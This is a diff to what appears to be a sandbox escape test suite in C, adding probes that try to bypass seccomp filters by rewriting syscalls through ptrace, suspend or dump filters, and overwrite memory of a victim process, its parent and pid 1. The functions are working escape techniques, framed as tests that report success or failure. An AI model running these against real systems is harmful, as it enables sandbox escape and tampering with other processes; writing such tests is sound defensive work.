@@ -3,10 +3,15 @@
  * is not meant to be written.
  */
 #include "attack.h"
+#include <elf.h>
+#include <linux/filter.h>
 #include <linux/kcmp.h>
+#include <linux/seccomp.h>
 #include <sys/mman.h>
+#include <sys/prctl.h>
 #include <sys/ptrace.h>
 #include <sys/uio.h>
+#include <sys/user.h>
 
 static pid_t targets[3];
 static const char *const target_names[] = {"victim", "parent", "pid 1"};
@@ -56,6 +61,184 @@ static void trace_child(void)
 	waitpid(pid, NULL, WUNTRACED);
 	kill(pid, SIGKILL);
 	waitpid(pid, NULL, 0);
+}
+
+/* One child, stopped for its tracer before it goes on to make the call. */
+static pid_t start_tracee(void (*go_on)(void), long options)
+{
+	pid_t pid = fork();
+	int status;
+
+	if (pid == 0) {
+		if (ptrace(PTRACE_TRACEME, 0, 0, 0) < 0) {
+			no("traceme");
+			_exit(1);
+		}
+		raise(SIGSTOP);
+		go_on();
+		fflush(stdout);
+		_exit(0);
+	}
+	if (pid < 0 || waitpid(pid, &status, 0) < 0 || !WIFSTOPPED(status))
+		return -1;
+	if (ptrace(PTRACE_SETOPTIONS, pid, 0, options | PTRACE_O_TRACESYSGOOD | PTRACE_O_EXITKILL) <
+	    0) {
+		no("options of the tracer");
+		kill(pid, SIGKILL);
+		waitpid(pid, NULL, 0);
+		return -1;
+	}
+	return pid;
+}
+
+#if defined(__x86_64__)
+#define CALL_OF(r)   (r).orig_rax
+#define FIRST_OF(r)  (r).rdi
+#define RESULT_OF(r) (r).rax
+#elif defined(__aarch64__)
+#define CALL_OF(r)   (r).regs[8]
+#define FIRST_OF(r)  (r).regs[0]
+#define RESULT_OF(r) (r).regs[0]
+#endif
+
+static bool set_call(pid_t pid, long from, long to, unsigned long first)
+{
+	struct user_regs_struct regs;
+	struct iovec v = {&regs, sizeof(regs)};
+
+	if (ptrace(PTRACE_GETREGSET, pid, (void *)NT_PRSTATUS, &v) < 0 ||
+	    (long)CALL_OF(regs) != from)
+		return false;
+	CALL_OF(regs) = (unsigned long)to;
+	FIRST_OF(regs) = first;
+	if (ptrace(PTRACE_SETREGSET, pid, (void *)NT_PRSTATUS, &v) < 0)
+		no("setting registers");
+#ifdef __aarch64__
+	int nr = (int)to;
+	struct iovec w = {&nr, sizeof(nr)};
+	(void)ptrace(PTRACE_SETREGSET, pid, (void *)NT_ARM_SYSTEM_CALL, &w);
+#endif
+	return true;
+}
+
+static void call_getppid(void)
+{
+	long r = syscall(SYS_getppid);
+
+	/* A new user namespace, which the filter refuses, answers 0; a parent's number is above. */
+	if (r == 0)
+		got("a new user namespace by a call that was changed");
+	else
+		printf("no: the changed call answered %ld, %s\n", r, strerror(errno));
+}
+
+/* As the tracee stops before its call: the kernel asks the filter after that. */
+static void rewrite_call(void)
+{
+	pid_t pid = start_tracee(call_getppid, 0);
+	int status;
+
+	if (pid < 0)
+		return;
+	while (ptrace(PTRACE_SYSCALL, pid, 0, 0) == 0 && waitpid(pid, &status, 0) == pid &&
+	       WIFSTOPPED(status))
+		if (WSTOPSIG(status) == (SIGTRAP | 0x80))
+			set_call(pid, SYS_getppid, SYS_unshare, 0x10000000 /* CLONE_NEWUSER */);
+	kill(pid, SIGKILL);
+}
+
+static void filtered_getppid(void)
+{
+	struct sock_filter code[] = {
+		BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
+		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_getppid, 0, 1),
+		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_TRACE),
+		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
+	};
+	struct sock_fprog program = {count_of(code), code};
+
+	if (prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0) < 0 ||
+	    prctl(PR_SET_SECCOMP, SECCOMP_MODE_FILTER, &program) < 0)
+		no("a filter of its own");
+	call_getppid();
+}
+
+/* As a filter stops it for its tracer: all filters are asked again after that. */
+static void rewrite_behind(void)
+{
+	pid_t pid = start_tracee(filtered_getppid, PTRACE_O_TRACESECCOMP);
+	int status;
+
+	if (pid < 0)
+		return;
+	while (ptrace(PTRACE_CONT, pid, 0, 0) == 0 && waitpid(pid, &status, 0) == pid &&
+	       WIFSTOPPED(status))
+		if (status >> 8 == (SIGTRAP | (PTRACE_EVENT_SECCOMP << 8)))
+			set_call(pid, SYS_getppid, SYS_unshare, 0x10000000 /* CLONE_NEWUSER */);
+	kill(pid, SIGKILL);
+}
+
+static void suspend_filter(void)
+{
+	struct sock_filter code[4096];
+	pid_t pid = start_tracee(filtered_getppid, PTRACE_O_SUSPEND_SECCOMP);
+
+	if (pid > 0) {
+		got("a suspended filter");
+		kill(pid, SIGKILL);
+		waitpid(pid, NULL, 0);
+	}
+	pid = start_tracee(filtered_getppid, 0);
+	if (pid > 0 && ptrace(PTRACE_SECCOMP_GET_FILTER, pid, 0, code) >= 0)
+		got("the filter itself");
+	if (pid > 0) {
+		kill(pid, SIGKILL);
+		waitpid(pid, NULL, 0);
+	}
+}
+
+/* All that a debugger has to reach into a process, on each of nacre's that has a number here, and
+ * on the victim. */
+static void rewrite_order(void)
+{
+	char text[] = "pwned", path[64];
+	struct iovec here = {text, sizeof(text)}, there = {NULL, sizeof(text)};
+
+	find_targets();
+	for (size_t i = 0; i < (world_number("boxed") ? count_of(targets) : 1); i++) {
+		pid_t pid = targets[i];
+		uintptr_t at =
+			i == 0 ? strtoul(world("victim_secret"), NULL, 0) : (uintptr_t)&targets;
+		int fd;
+
+		there.iov_base = (void *)at;
+		if (process_vm_writev(pid, &here, 1, &there, 1, 0) > 0)
+			got("process_vm_writev to %s", target_names[i]);
+		for (size_t j = 0; j < 2; j++) {
+			static const int ways[] = {PTRACE_SEIZE, PTRACE_ATTACH};
+
+			if (ptrace(ways[j], pid, 0, 0) < 0) {
+				no("attaching");
+				continue;
+			}
+			got("attached to %s", target_names[i]);
+			if (j == 0)
+				ptrace(PTRACE_INTERRUPT, pid, 0, 0);
+			waitpid(pid, NULL, __WALL);
+			ptrace(PTRACE_DETACH, pid, 0, 0);
+		}
+		if (ptrace(PTRACE_POKEDATA, pid, at, 0) == 0 ||
+		    ptrace(PTRACE_CONT, pid, 0, SIGWINCH) == 0)
+			got("an untraced process obeyed");
+		snprintf(path, sizeof(path), "/proc/%d/mem", pid);
+		fd = open(path, O_WRONLY);
+		if (fd >= 0 && pwrite(fd, text, sizeof(text), (off_t)at) > 0)
+			got("%s written", path);
+		snprintf(path, sizeof(path), "/proc/%d/task/%d/mem", pid, pid);
+		fd = open(path, O_RDONLY);
+		if (fd >= 0)
+			got("%s opened", path);
+	}
 }
 
 static void read_memory(void)
@@ -206,6 +389,10 @@ static void write_self(void)
 static const struct attempt all[] = {
 	{"attach", attach},
 	{"trace_child", trace_child},
+	{"rewrite_call", rewrite_call},
+	{"rewrite_behind", rewrite_behind},
+	{"suspend_filter", suspend_filter},
+	{"rewrite_order", rewrite_order},
 	{"read_memory", read_memory},
 	{"write_memory", write_memory},
 	{"memory_files", memory_files},
